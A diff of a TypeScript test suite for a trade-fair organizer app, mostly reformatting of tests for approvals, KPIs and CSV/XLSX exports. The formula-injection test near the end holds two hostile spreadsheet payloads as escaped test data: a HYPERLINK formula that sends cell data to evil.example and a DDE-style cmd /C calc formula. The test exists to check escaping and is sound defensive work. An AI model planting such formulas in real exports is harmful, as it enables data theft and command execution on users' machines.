@@ -69,7 +69,10 @@ describe('registration approval', () => {
     expect(booth.approvedAt).not.toBeNull()
     const notes = await prisma.notification.findMany({ where: { kind: 'registration.decided', userId: { in: [exporter.user.id, buyer.user.id] } } })
     expect(notes.map((n) => [n.userId, (n.data as { status: string }).status]).sort()).toEqual(
-      [[exporter.user.id, 'approved'], [buyer.user.id, 'rejected']].sort(),
+      [
+        [exporter.user.id, 'approved'],
+        [buyer.user.id, 'rejected'],
+      ].sort(),
     )
     // Deciding twice is refused (409), and nothing changes.
     const again = (await decide('approve', regs[1]!.id)) as { init: { status: number } }
@@ -112,9 +115,11 @@ describe('access control', () => {
     }
     // Another organizer cannot act on it either.
     const registration = await (await getPrisma()).fairRegistration.create({ data: { fairId: fair.id, userId: buyer.user.id, kind: 'BUYER' } })
-    const refused = await caught(() => post(`/organizer/fairs/${fair.id}`, other.cookie, { intent: 'approve', registrationId: registration.id }, manageAction, params))
+    const refused = await caught(() =>
+      post(`/organizer/fairs/${fair.id}`, other.cookie, { intent: 'approve', registrationId: registration.id }, manageAction, params),
+    )
     expect(refused.status).toBe(404)
-    const csv = (await csvLoader({ request: getRequest(`/organizer/fairs/${fair.id}/export.csv`, [owner.cookie]), params } as never))
+    const csv = await csvLoader({ request: getRequest(`/organizer/fairs/${fair.id}/export.csv`, [owner.cookie]), params } as never)
     expect(csv.headers.get('Content-Type')).toContain('text/csv')
   })
 })
@@ -151,15 +156,36 @@ describe('fair KPIs', () => {
     const inquiry = (companyId: string, buyerId: string, productId: string, extra: Record<string, unknown>) =>
       prisma.inquiry.create({ data: { ...base, companyId, buyerId, productId, fairId: fair.id, ...extra } })
     await inquiry(a.company.id, de.profile.id, pa.id, { status: 'NEW', consultationValueUsdCents: 100_000n })
-    await inquiry(a.company.id, us.profile.id, pa.id, { status: 'WON', wonAt: new Date('2026-07-02T00:00:00Z'), consultationValueUsdCents: 200_000n, contractValueUsdCents: 5_000_000n })
+    await inquiry(a.company.id, us.profile.id, pa.id, {
+      status: 'WON',
+      wonAt: new Date('2026-07-02T00:00:00Z'),
+      consultationValueUsdCents: 200_000n,
+      contractValueUsdCents: 5_000_000n,
+    })
     const krwLate = await inquiry(b.company.id, de.profile.id, pb.id, { status: 'WON', wonAt: new Date('2026-07-10T03:00:00Z') })
     const krwEarly = await inquiry(b.company.id, jp.profile.id, pb.id, { status: 'WON', wonAt: new Date('2026-03-01T00:00:00Z') })
-    const eur = await inquiry(b.company.id, us.profile.id, pb.id, { status: 'WON', wonAt: new Date('2026-07-03T00:00:00Z'), consultationValueUsdCents: 33_300n })
+    const eur = await inquiry(b.company.id, us.profile.id, pb.id, {
+      status: 'WON',
+      wonAt: new Date('2026-07-03T00:00:00Z'),
+      consultationValueUsdCents: 33_300n,
+    })
     await inquiry(a.company.id, jp.profile.id, pa.id, { status: 'LOST', consultationValueUsdCents: 30_000n, contractValueUsdCents: 999_900n })
     const noRate = await inquiry(a.company.id, de.profile.id, pa.id, { status: 'WON', wonAt: new Date('2026-07-04T00:00:00Z') })
     // Not this fair's.
-    await prisma.inquiry.create({ data: { ...base, companyId: a.company.id, buyerId: de.profile.id, productId: pa.id, fairId: otherFair.id, status: 'WON', contractValueUsdCents: 7_777_700n } })
-    await prisma.inquiry.create({ data: { ...base, companyId: a.company.id, buyerId: de.profile.id, productId: pa.id, status: 'WON', contractValueUsdCents: 1_000_000n } })
+    await prisma.inquiry.create({
+      data: {
+        ...base,
+        companyId: a.company.id,
+        buyerId: de.profile.id,
+        productId: pa.id,
+        fairId: otherFair.id,
+        status: 'WON',
+        contractValueUsdCents: 7_777_700n,
+      },
+    })
+    await prisma.inquiry.create({
+      data: { ...base, companyId: a.company.id, buyerId: de.profile.id, productId: pa.id, status: 'WON', contractValueUsdCents: 1_000_000n },
+    })
     const quote = (inquiryId: string, unitPriceMinor: number, currency: string, quantity: number, createdAt: Date) =>
       prisma.quote.create({ data: { inquiryId, unitPriceMinor, currency, quantity, validUntil: new Date('2027-01-01'), createdById: b.user.id, createdAt } })
     await quote(krwLate.id, 99_999, 'USD', 1, new Date('2026-07-01T00:00:00Z')) // older quote: ignored
@@ -168,7 +194,18 @@ describe('fair KPIs', () => {
     await quote(eur.id, 1_250, 'EUR', 2_000, new Date('2026-07-02T00:00:00Z'))
     await quote(noRate.id, 50_000, 'VND', 10, new Date('2026-07-02T00:00:00Z'))
     const meeting = (companyId: string, buyerId: string, status: 'HELD' | 'REQUESTED' | 'CANCELLED', extra: Record<string, unknown> = {}) =>
-      prisma.meeting.create({ data: { companyId, buyerId, fairId: fair.id, status, startsAt: new Date('2026-07-02T01:00:00Z'), endsAt: new Date('2026-07-02T01:30:00Z'), requestedById: organizer.user.id, ...extra } })
+      prisma.meeting.create({
+        data: {
+          companyId,
+          buyerId,
+          fairId: fair.id,
+          status,
+          startsAt: new Date('2026-07-02T01:00:00Z'),
+          endsAt: new Date('2026-07-02T01:30:00Z'),
+          requestedById: organizer.user.id,
+          ...extra,
+        },
+      })
     await meeting(a.company.id, jp.profile.id, 'HELD', { consultationValueUsdCents: 500_000n, contractValueUsdCents: 1_200_000n })
     await meeting(b.company.id, us.profile.id, 'REQUESTED', { consultationValueUsdCents: 77_700n })
     await meeting(a.company.id, de.profile.id, 'HELD')
@@ -176,7 +213,19 @@ describe('fair KPIs', () => {
     const host = a.user.id
     const session = (title: string, approved: boolean, stats: { u: number; p: number; w: number }) =>
       prisma.liveSession.create({
-        data: { title, hostId: host, companyId: a.company.id, fairId: fair.id, approvedAt: approved ? new Date() : null, scheduledStartAt: new Date('2026-07-02T00:00:00Z'), scheduledEndAt: new Date('2026-07-02T01:00:00Z'), uniqueViewers: stats.u, peakViewers: stats.p, watchSeconds: BigInt(stats.w), status: 'ENDED' },
+        data: {
+          title,
+          hostId: host,
+          companyId: a.company.id,
+          fairId: fair.id,
+          approvedAt: approved ? new Date() : null,
+          scheduledStartAt: new Date('2026-07-02T00:00:00Z'),
+          scheduledEndAt: new Date('2026-07-02T01:00:00Z'),
+          uniqueViewers: stats.u,
+          peakViewers: stats.p,
+          watchSeconds: BigInt(stats.w),
+          status: 'ENDED',
+        },
       })
     const s1 = await session('Noodles live', true, { u: 120, p: 45, w: 36_000 })
     const s2 = await session('Soju live', true, { u: 80, p: 60, w: 18_000 })
@@ -193,7 +242,10 @@ describe('fair KPIs', () => {
     // ── Independent computation from the rows (BigInt, exact) ──
     const rates = await prisma.exchangeRate.findMany()
     const rateAt = (currency: string, at: Date) =>
-      rates.filter((r) => r.currency === currency && r.validFrom <= at).sort((x, y) => y.validFrom.getTime() - x.validFrom.getTime())[0]?.usdPerUnit.toString()
+      rates
+        .filter((r) => r.currency === currency && r.validFrom <= at)
+        .sort((x, y) => y.validFrom.getTime() - x.validFrom.getTime())[0]
+        ?.usdPerUnit.toString()
     /** minor units × rate (decimal string) → USD cents, rounded half up. */
     const convert = (minor: bigint, currency: string, at: Date): bigint | null => {
       if (currency === 'USD') return minor
@@ -206,7 +258,10 @@ describe('fair KPIs', () => {
       const denominator = scale * 10n ** BigInt(currencyFractionDigits(currency))
       return (numerator * 2n + denominator) / (2n * denominator)
     }
-    const inquiries = await prisma.inquiry.findMany({ where: { fairId: fair.id }, include: { quotes: { orderBy: { createdAt: 'desc' } }, buyer: true, product: true } })
+    const inquiries = await prisma.inquiry.findMany({
+      where: { fairId: fair.id },
+      include: { quotes: { orderBy: { createdAt: 'desc' } }, buyer: true, product: true },
+    })
     const meetings = await prisma.meeting.findMany({ where: { fairId: fair.id }, include: { buyer: true } })
     const held = meetings.filter((m) => m.status === 'HELD')
     const contractOf = (i: (typeof inquiries)[number]): bigint => {
@@ -216,8 +271,20 @@ describe('fair KPIs', () => {
       return q ? (convert(BigInt(q.unitPriceMinor) * BigInt(q.quantity), q.currency, i.wonAt!) ?? 0n) : 0n
     }
     const consultations = [
-      ...inquiries.map((i) => ({ company: i.companyId, country: i.buyer.country, hs: i.product!.hsCode.slice(0, 2), consultation: i.consultationValueUsdCents ?? 0n, contract: contractOf(i) })),
-      ...held.map((m) => ({ company: m.companyId, country: m.buyer.country, hs: '', consultation: m.consultationValueUsdCents ?? 0n, contract: m.contractValueUsdCents ?? 0n })),
+      ...inquiries.map((i) => ({
+        company: i.companyId,
+        country: i.buyer.country,
+        hs: i.product!.hsCode.slice(0, 2),
+        consultation: i.consultationValueUsdCents ?? 0n,
+        contract: contractOf(i),
+      })),
+      ...held.map((m) => ({
+        company: m.companyId,
+        country: m.buyer.country,
+        hs: '',
+        consultation: m.consultationValueUsdCents ?? 0n,
+        contract: m.contractValueUsdCents ?? 0n,
+      })),
     ]
     const sum = (rows: typeof consultations, key: 'consultation' | 'contract') => Number(rows.reduce((t, r) => t + r[key], 0n))
     // Hand-checked anchors for the conversion: 13,000 KRW × 500 at 0.00075 = $4,875.00; 10,000 KRW × 100 at 0.00072 = $720.00; €12.50 × 2,000 at 1.085 = $27,125.00.
@@ -234,13 +301,19 @@ describe('fair KPIs', () => {
       contractUsdCents: sum(consultations, 'contract'),
       unconverted: 1,
     })
-    for (const [dimension, key] of [['byExporter', 'company'], ['byBuyerCountry', 'country'], ['byHsChapter', 'hs']] as const) {
+    for (const [dimension, key] of [
+      ['byExporter', 'company'],
+      ['byBuyerCountry', 'country'],
+      ['byHsChapter', 'hs'],
+    ] as const) {
       const expected = new Map<string, { n: number; consultation: number; contract: number }>()
       for (const row of consultations) {
         const entry = expected.get(row[key]) ?? { n: 0, consultation: 0, contract: 0 }
         expected.set(row[key], { n: entry.n + 1, consultation: entry.consultation + Number(row.consultation), contract: entry.contract + Number(row.contract) })
       }
-      const actual = new Map(kpis.consultations[dimension].map((r) => [r.key, { n: r.consultations, consultation: r.consultationUsdCents, contract: r.contractUsdCents }]))
+      const actual = new Map(
+        kpis.consultations[dimension].map((r) => [r.key, { n: r.consultations, consultation: r.consultationUsdCents, contract: r.contractUsdCents }]),
+      )
       expect(actual, dimension).toEqual(expected)
     }
     expect(kpis.registrations).toEqual({
@@ -254,8 +327,12 @@ describe('fair KPIs', () => {
       exportersApproved: 1,
     })
     expect(kpis.sessions.totals).toEqual({ sessions: 2, uniqueViewers: 200, peakViewers: 60, watchSeconds: 54_000, chatMessages: 3 })
-    expect(kpis.sessions.top.map((s) => [s.title, s.chatMessages])).toEqual([['Noodles live', 2], ['Soju live', 1]])
-    const byStatus = (list: Array<{ status: string }>) => Object.fromEntries([...new Set(list.map((r) => r.status))].map((s) => [s, list.filter((r) => r.status === s).length]))
+    expect(kpis.sessions.top.map((s) => [s.title, s.chatMessages])).toEqual([
+      ['Noodles live', 2],
+      ['Soju live', 1],
+    ])
+    const byStatus = (list: Array<{ status: string }>) =>
+      Object.fromEntries([...new Set(list.map((r) => r.status))].map((s) => [s, list.filter((r) => r.status === s).length]))
     expect(Object.fromEntries(kpis.pipeline.inquiriesByStatus.map((r) => [r.status, r.count]))).toEqual(byStatus(inquiries))
     expect(Object.fromEntries(kpis.pipeline.meetingsByStatus.map((r) => [r.status, r.count]))).toEqual(byStatus(meetings))
     expect(kpis.funnel).toEqual([
@@ -269,12 +346,15 @@ describe('fair KPIs', () => {
     const rows = await listConsultationRows(fair.id, { locale: 'en', timeZone: 'Asia/Seoul' })
     expect(rows).toHaveLength(inquiries.length + held.length)
     expect(rows.reduce((t, r) => t + r.contractUsdCents, 0)).toBe(sum(consultations, 'contract'))
-    const csv = (await csvLoader({ request: getRequest(`/organizer/fairs/${fair.id}/export.csv`, [organizer.cookie]), params: { fairId: fair.id } } as never))
-    const lines = (await csv.text()).replace(/^\uFEFF/, '').trim().split('\n')
+    const csv = await csvLoader({ request: getRequest(`/organizer/fairs/${fair.id}/export.csv`, [organizer.cookie]), params: { fairId: fair.id } } as never)
+    const lines = (await csv.text())
+      .replace(/^\uFEFF/, '')
+      .trim()
+      .split('\n')
     expect(lines[0]).toBe('Date,Type,Exporter,Buyer,Buyer country,Product,HS code,Consultation value (USD),Contract value (USD),Status')
     expect(lines).toHaveLength(rows.length + 1)
     expect(lines.some((l) => l.includes('Beta Beauty') && l.includes(',4875.00,WON'))).toBe(true)
-    const xlsx = (await xlsxLoader({ request: getRequest(`/organizer/fairs/${fair.id}/export.xlsx`, [organizer.cookie]), params: { fairId: fair.id } } as never))
+    const xlsx = await xlsxLoader({ request: getRequest(`/organizer/fairs/${fair.id}/export.xlsx`, [organizer.cookie]), params: { fairId: fair.id } } as never)
     const bytes = new Uint8Array(await xlsx.arrayBuffer())
     expect([bytes[0], bytes[1]]).toEqual([0x50, 0x4b]) // a zip (OOXML) container
   })
@@ -298,7 +378,15 @@ describe('session reminders', () => {
     const now = new Date('2026-07-02T00:50:00Z')
     const session = (title: string, startsInMinutes: number, approved = true) =>
       prisma.liveSession.create({
-        data: { title, hostId: exporter.user.id, companyId: exporter.company.id, fairId: fair.id, approvedAt: approved ? now : null, scheduledStartAt: new Date(now.getTime() + startsInMinutes * MINUTE), scheduledEndAt: new Date(now.getTime() + (startsInMinutes + 30) * MINUTE) },
+        data: {
+          title,
+          hostId: exporter.user.id,
+          companyId: exporter.company.id,
+          fairId: fair.id,
+          approvedAt: approved ? now : null,
+          scheduledStartAt: new Date(now.getTime() + startsInMinutes * MINUTE),
+          scheduledEndAt: new Date(now.getTime() + (startsInMinutes + 30) * MINUTE),
+        },
       })
     const soon = await session('Soon', 10)
     await session('Later', REMINDER_LEAD_MINUTES + 5)
@@ -342,19 +430,22 @@ describe('export files and formula injection', () => {
         consultationValueUsdCents: 1000n,
       },
     })
-    const csv = (await csvLoader({ request: getRequest(`/organizer/fairs/${fair.id}/export.csv`, [organizer.cookie]), params: { fairId: fair.id } } as never))
+    const csv = await csvLoader({ request: getRequest(`/organizer/fairs/${fair.id}/export.csv`, [organizer.cookie]), params: { fairId: fair.id } } as never)
     const line = (await csv.text()).trim().split('\n')[1]!
     // Each hostile name is one quoted cell starting with an apostrophe (inner quotes doubled).
     expect(line).toContain(`,"'=HYPERLINK(""https://evil.example/?d=""&A1,""Invoice"")",`)
     expect(line).toContain(`,"'＠SUM(1+1)*cmd|"" /C calc""!A0",`)
     expect(line).not.toMatch(/,=|,"=|,＠|,"＠/)
 
-    const xlsx = (await xlsxLoader({ request: getRequest(`/organizer/fairs/${fair.id}/export.xlsx`, [organizer.cookie]), params: { fairId: fair.id } } as never))
+    const xlsx = await xlsxLoader({ request: getRequest(`/organizer/fairs/${fair.id}/export.xlsx`, [organizer.cookie]), params: { fairId: fair.id } } as never)
     const workbook = new ExcelJS.Workbook()
-    await workbook.xlsx.load((await xlsx.arrayBuffer()))
+    await workbook.xlsx.load(await xlsx.arrayBuffer())
     const row = workbook.getWorksheet('Consultations')!.getRow(2)
     // Typed string cells: Excel shows the text and never evaluates it (no formula cell is written).
-    for (const [column, name] of [[3, hostileExporter], [4, hostileBuyer]] as const) {
+    for (const [column, name] of [
+      [3, hostileExporter],
+      [4, hostileBuyer],
+    ] as const) {
       const cell = row.getCell(column)
       expect(cell.type).toBe(ExcelJS.ValueType.String)
       expect(cell.value).toBe(name)
